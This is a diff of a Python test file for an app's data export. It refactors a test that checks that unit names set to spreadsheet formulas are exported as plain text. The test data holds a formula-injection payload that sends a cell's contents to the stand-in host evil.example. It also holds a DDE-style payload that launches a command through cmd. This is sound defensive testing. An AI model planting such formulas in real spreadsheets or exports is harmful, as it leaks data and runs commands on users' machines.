@@ -10,7 +10,6 @@ import ast
 import csv
 import io
 import re
-import shutil
 from datetime import date, datetime
 from pathlib import Path
 from unittest import mock
@@ -156,15 +155,14 @@ def test_fin004_unit_renamed_to_a_formula_exports_as_text(databases, tmp_path):
     from app import create_app
     from auth.admin import Actor, update_unit_names
     from exports.specs import encode_spec
-    from tests.conftest import make_settings, seeded_url_for
+    from tests.conftest import make_settings, seeded_sqlite_copy
 
-    copy = tmp_path / "w.sqlite"
-    shutil.copy(seeded_url_for("sqlite", databases).split("sqlite:///", 1)[1], copy)
-    engine = create_engine(f"sqlite:///{copy}")
+    url = seeded_sqlite_copy(databases, tmp_path)
+    engine = create_engine(url)
     evil = '=HYPERLINK("http://evil.example/?d="&\'Dữ liệu\'!B2,"Cục Thống kê")'
     update_unit_names(engine, "TK", name_vi=evil, name_en="@SUM(1+1)*cmd|' /C calc'!A0", actor=Actor("test"))
     engine.dispose()
-    server = create_app(make_settings(f"sqlite:///{copy}", tmp_path))
+    server = create_app(make_settings(url, tmp_path))
     try:
         spec = encode_spec({"kind": "trend", "indicator": "EXPORTS", "areas": ["VN"], "start": "202501",
                             "end": "202512"})
